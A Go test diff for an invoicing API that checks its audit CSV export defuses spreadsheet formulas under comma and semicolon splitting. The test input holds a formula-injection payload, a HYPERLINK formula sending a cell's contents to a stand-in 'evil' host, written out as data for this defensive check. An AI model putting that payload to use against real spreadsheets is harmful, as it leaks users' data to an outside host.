@@ -112,3 +112,41 @@ func TestGSTR1DocIssue(t *testing.T) {
 	e.wantError(e.do("GET", "/v1/reports/gstr1/doc-issue?fp=132026", e.read, ""), http.StatusUnprocessableEntity, "invalid_period")
 	e.wantError(e.do("GET", "/v1/reports/gstr1/doc-issue?fp=112026", e.issue, ""), http.StatusForbidden, "forbidden")
 }
+
+// TestAuditCSVDefusesFormulasInBothLocales: a cancel reason that a
+// spreadsheet would run as a formula is defused whether the CSV is split
+// at commas or, as in locales whose list separator is ';', at semicolons.
+func TestAuditCSVDefusesFormulasInBothLocales(t *testing.T) {
+	t.Parallel()
+	e := setup(t)
+	inv := e.mustIssue("CH1", "")
+	reason := `wrong buyer;=HYPERLINK("http://evil/?"&A1,"x"); +1;@SUM(A1)`
+	e.wantStatus(e.do("POST", "/v1/invoices/"+inv.ID+"/cancel", e.all, `{"reason":`+strconvQuote(reason)+`}`), http.StatusOK)
+	r := e.do("GET", "/v1/series/CH1/audit?fy=2026-27&format=csv", e.read, "")
+	e.wantStatus(r, http.StatusOK)
+	body, _ := bytes.CutPrefix(r.body, []byte("\xef\xbb\xbf"))
+	for _, sep := range []rune{',', ';'} {
+		cr := csv.NewReader(bytes.NewReader(body))
+		cr.Comma, cr.FieldsPerRecord, cr.LazyQuotes = sep, -1, true
+		recs, err := cr.ReadAll()
+		if err != nil {
+			t.Fatalf("CSV split at %q: %v", sep, err)
+		}
+		for _, rec := range recs {
+			for _, cell := range rec {
+				if c := strings.TrimLeft(cell, " "); c != "" && strings.ContainsRune("=+-@", rune(c[0])) && !isNumber(c) {
+					t.Errorf("split at %q, the cell %q would run as a formula", sep, cell)
+				}
+			}
+		}
+	}
+}
+
+func strconvQuote(s string) string { b, _ := json.Marshal(s); return string(b) }
+
+// isNumber reports whether s is a signed decimal (a spreadsheet reads it as
+// a number, not a formula).
+func isNumber(s string) bool {
+	s = strings.TrimLeft(s, "+-")
+	return s != "" && strings.Trim(s, "0123456789.") == ""
+}
